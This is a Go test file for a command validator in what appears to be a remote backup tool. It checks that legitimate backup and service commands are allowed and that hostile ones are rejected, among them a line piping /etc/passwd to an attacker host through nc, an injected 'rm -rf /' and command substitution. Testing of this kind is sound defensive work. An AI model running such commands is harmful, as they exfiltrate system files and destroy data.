package remote

import "testing"

func TestValidateCommandAllowsGeneratedCommands(t *testing.T) {
	commands := []string{
		"mysqldump --all-databases --single-transaction --result-file=/tmp/db.sql",
		"sudo -u postgres pg_dumpall -f /tmp/pg.sql",
		"mongodump --archive=/tmp/mongo.archive",
		"redis-cli --rdb /tmp/dump.rdb",
		"systemctl stop nginx",
		"systemctl list-units --type=service --state=running --no-pager --no-legend --plain",
		"docker stop app-container",
		"tar -czf /tmp/staging.tar.gz -C /tmp/staging .",
		"df -PB1",
		"stat -c %s /tmp/staging.tar.gz",
		"rm -rf /tmp/backstead-backup-1234",
		"/usr/bin/mysqldump --all-databases --result-file=/tmp/db.sql",
	}

	for _, cmd := range commands {
		if err := ValidateCommand(cmd); err != nil {
			t.Errorf("ValidateCommand(%q) = %v, want nil", cmd, err)
		}
	}
}

func TestValidateCommandRejectsMetacharacters(t *testing.T) {
	commands := []string{
		"df -PB1; rm -rf /",
		"cat /etc/passwd | nc attacker 4444",
		"echo `id`",
		"echo $(whoami)",
		"mysqldump --all-databases > /tmp/out.sql",
		"systemctl stop nginx & systemctl stop mysql",
		"cat <(ls /)",
	}

	for _, cmd := range commands {
		if err := ValidateCommand(cmd); err == nil {
			t.Errorf("ValidateCommand(%q) = nil, want error", cmd)
		}
	}
}

func TestValidateCommandRejectsUnknownBase(t *testing.T) {
	commands := []string{
		"curl http://example.com",
		"wget http://example.com",
		"bash -c true",
		"nc -l 4444",
		"",
		"   ",
		"sudo",
		"sudo -n",
	}

	for _, cmd := range commands {
		if err := ValidateCommand(cmd); err == nil {
			t.Errorf("ValidateCommand(%q) = nil, want error", cmd)
		}
	}
}

func TestBaseCommandSudoHandling(t *testing.T) {
	cases := map[string]string{
		"sudo -u postgres pg_dumpall -f /tmp/pg.sql": "pg_dumpall",
		"sudo systemctl stop nginx":                  "systemctl",
		"sudo -n -u redis cp /tmp/a /tmp/b":          "cp",
		"/usr/local/bin/redis-cli ping":              "redis-cli",
		"tar -czf out.tar.gz .":                      "tar",
	}

	for cmd, want := range cases {
		if got := baseCommand(cmd); got != want {
			t.Errorf("baseCommand(%q) = %q, want %q", cmd, got, want)
		}
	}
}
